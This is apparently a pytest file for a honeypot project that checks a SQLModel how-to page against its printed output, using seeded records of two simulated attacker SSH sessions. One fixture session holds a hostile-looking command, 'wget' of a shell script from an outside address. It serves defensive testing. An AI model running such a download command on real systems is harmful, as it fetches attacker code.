# SPDX-License-Identifier: MIT
"""`docs/howto/query-with-sqlmodel.md`, word by word, on what the real workers make of two attackers' sessions."""

from __future__ import annotations

import contextlib
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from tests.fleet.exactly_once_checks import run_once
from tests.fleet.howto import blocks

from decnet_core.events.catalogue import CommandRun, LoginAttempt, Payload, SessionClosed, SessionOpened
from decnet_core.events.envelope import Event
from decnet_core.events.ids import uuid7
from decnet_models.database.engine import open_engine, writing
from decnet_models.events.queries import insert_events

BEGIN = int(datetime(2026, 11, 27, 8, 6, 22, tzinfo=UTC).timestamp()) * 10**9


def session_of(attacker: str, decky: str, user: str, *commands: str) -> Iterator[Event]:
    payloads: list[Payload] = [
        LoginAttempt("ssh", user, success=True, password="admin123"),
        SessionOpened("ssh", user),
        *(CommandRun("ssh", command) for command in commands),
        SessionClosed("ssh", 2300),
    ]
    for number, payload in enumerate(payloads):
        ts = BEGIN + number * 10**9
        yield Event(
            id=uuid7(ts), ts=ts, sensor="here", payload=payload, decky=decky, src_ip=attacker, session=f"{decky}-{user}"
        )


@pytest.fixture
def observed(state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two attackers in the database of the state directory that the settings name."""
    monkeypatch.setenv("DECNET_STATE_DIR", str(state))
    engine = open_engine(f"sqlite:///{state / 'decnet.db'}")
    with writing(engine) as connection:
        first = session_of("198.51.100.7", "web-01", "root", "uname -a", "wget http://203.0.113.9/x.sh")
        insert_events(connection, [*first, *session_of("192.0.2.44", "db-01", "postgres", "id")])
    for worker in ("profiler", "ttp"):
        run_once(worker, engine)
    engine.dispose()


@pytest.mark.usefixtures("observed")
def test_the_page_shows_what_its_code_prints() -> None:
    names: dict[str, Any] = {}
    printed = io.StringIO()
    shown = []
    for block in blocks("query-with-sqlmodel"):
        if block.language == "python":
            with contextlib.redirect_stdout(printed):
                exec(compile(block.text, "query-with-sqlmodel.md", "exec"), names)
        elif block.language == "text":
            shown.append(block.text)
    names["engine"].dispose()
    assert printed.getvalue() == "".join(shown)
